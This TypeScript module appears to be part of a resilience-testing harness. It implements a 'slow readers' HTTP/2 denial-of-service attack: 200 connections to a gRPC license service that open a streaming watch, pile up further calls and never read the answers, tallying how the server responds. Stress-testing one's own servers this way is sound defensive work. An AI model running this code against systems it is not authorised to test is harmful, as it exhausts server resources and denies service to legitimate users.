import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import type { Attack, Tally, Target } from "../attack.ts";
import { emptyCall, opening } from "../raw-http2.ts";

const READERS = 200;
/** Begun at once; then one more with each pause, so that what is tried is the readers, not the rate. */
const FIRST_CALLS = 10;
const PAUSE_MS = 1_000;
/** They come one after another over so long, for the same reason. */
const COMING_MS = 5_000;

/** Connections that never read an answer: a watch each, and ever more calls. */
export const slowReaders: Attack = async (target, tally) => {
  await Promise.all(
    Array.from({ length: READERS }, async (_, n) => {
      await delay((COMING_MS / READERS) * n, undefined, { signal: target.signal }).catch(() => undefined);
      await askWithoutReading(target, tally);
    }),
  );
};

async function askWithoutReading(target: Target, tally: Tally): Promise<void> {
  const { host, port, token, signal } = target;
  const socket = connect({ host, port });
  let isOpen = true;
  socket.on("error", () => undefined);
  socket.on("close", () => {
    isOpen = false;
    if (!signal.aborted) tally("connection closed by the server");
  });
  socket.pause();
  socket.write(opening());
  socket.write(emptyCall(1, "/license.v1.LicenseService/WatchLicenseCapabilities", token));
  tally("watches");
  let streamId = 1;
  const ask = () => {
    streamId += 2;
    write(socket, emptyCall(streamId, "/license.v1.LicenseService/GetLicenseInfo", token), tally);
  };
  for (let call = 0; call < FIRST_CALLS; call += 1) ask();
  while (isOpen && !signal.aborted) {
    await delay(PAUSE_MS, undefined, { signal }).catch(() => undefined);
    ask();
  }
  tally(isOpen ? "open at the end" : "closed at the end");
  socket.destroy();
}

/** Once the server takes no more bytes, further ones would only fill this process. */
function write(socket: Socket, bytes: Buffer, tally: Tally): void {
  const isHeldBack = socket.writableLength > 65_536;
  if (!isHeldBack) socket.write(bytes);
  tally(isHeldBack ? "calls held back, the server reads no more" : "calls");
}
